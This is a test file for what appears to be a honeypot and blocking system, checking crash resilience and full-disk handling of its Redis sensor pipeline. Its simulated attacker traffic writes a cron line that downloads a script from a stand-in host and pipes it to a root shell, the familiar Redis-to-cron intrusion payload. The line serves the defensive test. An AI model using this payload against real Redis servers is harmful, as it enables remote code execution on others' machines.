import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, describe, expect, test } from 'vitest';
import { silentLog } from '../src/kit/log.ts';
import { seeded } from '../src/kit/seeded.ts';
import { collect, openEmbeddedLake } from '../src/lake/index.ts';
import { createSessionStore, openDatabase } from '../src/state/index.ts';
import { Program } from './setup/program.ts';

/** How often a process is killed; the soak raises it. */
const kills = Number(process.env.CALTROP_KILLS ?? 6);
const yaml = `profile: lab
decision: {mode: enforce, budget: {growthFloor: 10000, perMinute: 10000}}
server: {port: 0}
sensor: {services: {ssh: {enabled: false}, telnet: {enabled: false}, http: {enabled: false}, redis: {port: 0}}}
enforcement: {blocklist: {enabled: true}}
intake: {enrich: false, segmentAgeMs: 200}
`;

interface Listed {
  decision: { scope: { source: string } };
}
interface Status {
  troubles: string[];
  lake: { waiting: number };
  sessions: { behind: boolean };
}

const systems: Program[] = [];
afterAll(() => {
  for (const system of systems) {
    try {
      execFileSync('umount', [join(system.data, 'journal')], { stdio: 'ignore' });
    } catch {
      // Nothing was mounted.
    }
    system.remove();
  }
});

async function started(prepare?: (system: Program) => void): Promise<Program> {
  const system = new Program(yaml);
  systems.push(system);
  prepare?.(system);
  await system.start();
  return system;
}

/** Which numbered commands and which whole sessions the lake holds, once the system has stopped. */
async function stored(system: Program) {
  const { data } = system;
  const lake = await openEmbeddedLake({
    folder: join(data, 'lake'),
    runFolder: join(data, 'run'),
    log: silentLog,
  });
  const sql = "SELECT toString(id) AS id, input FROM events WHERE kind = 'command' AND input LIKE 'GET k%'";
  const rows = await collect<{ id: string; input: string }>(lake.rows({ sql }));
  const closed = await collect<{ session: string }>(
    lake.rows({
      sql: "SELECT session FROM events GROUP BY session HAVING countIf(kind = 'close') > 0 AND countIf(kind = 'command') > 0",
    }),
  );
  await lake.close();
  return { rows, closed: closed.map(({ session }) => session) };
}

const drained = (system: Program) =>
  expect
    .poll(() => system.ask<Status>('status')[0]?.lake.waiting, { timeout: 20_000, interval: 500 })
    .toBe(0);

test(
  `after ${kills} kills at random, no acknowledged event is lost, none is stored twice, and nothing is decided twice`,
  async () => {
    const random = seeded(Number(process.env.CALTROP_SEED ?? 7));
    const system = await started();
    const answered: { key: string; at: number }[] = [];
    const killedAt: number[] = [];
    let going = true;
    let number = 0;
    const traffic = (async () => {
      while (going) {
        const key = `k${number++}`;
        if (await system.redis(`127.20.0.${(number % 50) + 1}`, `GET ${key}`))
          answered.push({ key, at: Date.now() });
        const attacker = number / 25;
        if (Number.isInteger(attacker)) {
          await system.redis(
            `127.21.${attacker >> 8}.${attacker & 255}`,
            'SET x "\\n* * * * * root curl -fsSL http://192.0.2.66/b.sh | sh\\n"',
          );
        }
        await sleep(4);
      }
    })();
    for (let i = 0; i < kills; i++) {
      await sleep(700 + random() * 900);
      const targets = Object.entries(system.processes());
      // Each kind in turn first, then at random.
      const kind = ['lake', 'sensor', 'main'][i] ?? targets[Math.floor(random() * targets.length)]![0];
      const pid = Object.fromEntries(targets)[kind];
      if (!pid) continue;
      killedAt.push(Date.now());
      process.kill(pid, 'SIGKILL');
      if (kind === 'main') {
        await system.ended();
        await system.start();
      }
    }
    await sleep(1_500);
    going = false;
    await traffic;
    await drained(system);
    await sleep(1_000);
    await expect
      .poll(() => system.ask<Status>('status')[0]?.sessions.behind, { timeout: 30_000, interval: 500 })
      .toBe(false);

    const standing = system.ask<Listed>('decisions', '--standing', '--limit', '10000');
    const blocked = readFileSync(join(system.data, 'blocklist', 'all.txt'), 'utf8')
      .split('\n')
      .filter((line) => line !== '' && !line.startsWith('#'));
    expect(blocked.sort()).toEqual(standing.map(({ decision }) => decision.scope.source).sort());
    const all = system
      .ask<Listed>('decisions', '--limit', '10000')
      .map(({ decision }) => decision.scope.source);
    expect(all.length).toBeGreaterThan(5);
    expect(all.filter((source, i) => all.indexOf(source) !== i)).toEqual([]);

    await system.stop();
    // An answer may have gone out a moment before a killed sensor could write the event down: that one was not acknowledged.
    const certain = answered
      .filter(({ at }) => !killedAt.some((kill) => at <= kill + 50 && at > kill - 150))
      .map(({ key }) => key);
    expect(certain.length).toBeGreaterThan(200);
    const { rows, closed } = await stored(system);
    const inputs = new Set(rows.map(({ input }) => input));
    expect(certain.filter((key) => !inputs.has(`GET ${key}`))).toEqual([]);
    expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
    expect(inputs.size).toBe(rows.length);

    // Each session that ended was looked at, once.
    const db = await openDatabase({ folder: join(system.data, 'state') });
    const store = createSessionStore(db);
    const kept = await store.sessions({ limit: 10_000 });
    const looked = kept.map(({ session }) => session);
    const fetched = kept.filter(({ indicators }) => indicators.some(({ type }) => type === 'url'));
    const counted = (await store.indicators({ type: 'url' })).map(({ sessions }) => sessions);
    await db.destroy();
    expect(new Set(looked).size).toBe(looked.length);
    expect(closed.filter((session) => !looked.includes(session))).toEqual([]);
    expect(fetched.length).toBeGreaterThan(5);
    expect(counted).toEqual([fetched.length]);
  },
  Math.max(180_000, kills * 15_000),
);

function canMount(): boolean {
  try {
    execFileSync('unshare', ['-m', 'mount', '-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', '/mnt'], {
      stdio: 'ignore',
    });
    return process.getuid?.() === 0;
  } catch {
    return false;
  }
}

describe.skipIf(!canMount())('a disk that is full (needs root, to mount a small one)', () => {
  test('sensors keep what they have, the status says so, and nothing is lost once there is room', async () => {
    const system = await started(({ data }) => {
      mkdirSync(join(data, 'journal'), { recursive: true });
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=512k', 'tmpfs', join(data, 'journal')]);
    });
    const { lake } = system.processes();
    process.kill(lake!, 'SIGSTOP');
    const sent: string[] = [];
    let troubles: string[] = [];
    for (let i = 0; i < 3_000 && troubles.length === 0; i++) {
      const words = `GET k${i}-${'x'.repeat(600)}`;
      if (await system.redis(`127.22.0.${(i % 200) + 1}`, words)) sent.push(words);
      // The lake does not answer meanwhile: its own trouble is told too, and is not the one that is looked for.
      if (i % 250 === 249) {
        troubles = (system.ask<Status>('status')[0]?.troubles ?? []).filter((one) =>
          one.includes('cannot be written'),
        );
      }
    }
    expect(troubles).toHaveLength(1);
    for (let i = 0; i < 100; i++) {
      const words = `GET k-late${i}`;
      if (await system.redis(`127.22.0.${(i % 200) + 1}`, words)) sent.push(words);
    }
    process.kill(lake!, 'SIGCONT');
    await expect
      .poll(() => system.ask<Status>('status')[0]?.troubles, { timeout: 30_000, interval: 500 })
      .toEqual([]);
    await sleep(1_000);
    await drained(system);
    await system.stop();
    const inputs = new Set((await stored(system)).rows.map(({ input }) => input));
    expect(sent.length).toBeGreaterThan(100);
    expect(sent.filter((words) => !inputs.has(words))).toEqual([]);
  }, 120_000);
});
